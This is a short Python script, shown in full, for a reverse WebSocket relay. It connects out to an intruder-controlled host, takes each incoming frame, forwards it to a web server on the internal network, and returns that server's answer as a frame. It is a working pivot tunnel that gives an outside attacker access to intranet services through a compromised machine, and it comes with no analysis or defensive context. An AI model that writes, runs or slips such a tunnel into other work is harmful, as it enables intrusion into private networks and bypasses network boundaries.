"""A relay in a WebSocket: each frame that comes is sent to the intranet, and its answer goes back as a frame."""

import base64
import os
import socket

outer = socket.create_connection((os.environ["INTRUDER"], 8765))
outer.sendall(
    b"GET /socket HTTP/1.1\r\nHost: intruder.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: %s\r\n\r\n" % base64.b64encode(os.urandom(16))
)
stream = outer.makefile("rb")
while stream.readline().strip():
    pass
while head := stream.read(2):
    request = stream.read(head[1] if head[1] < 126 else int.from_bytes(stream.read(2), "big"))
    inner = socket.create_connection((os.environ["INTRANET"], 80))
    inner.sendall(request)
    answer = b""
    while data := inner.recv(65536):
        answer += data
    mask = os.urandom(4)
    size = bytes([128 | len(answer)]) if len(answer) < 126 else b"\xfe" + len(answer).to_bytes(2, "big")
    outer.sendall(b"\x82" + size + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(answer)))
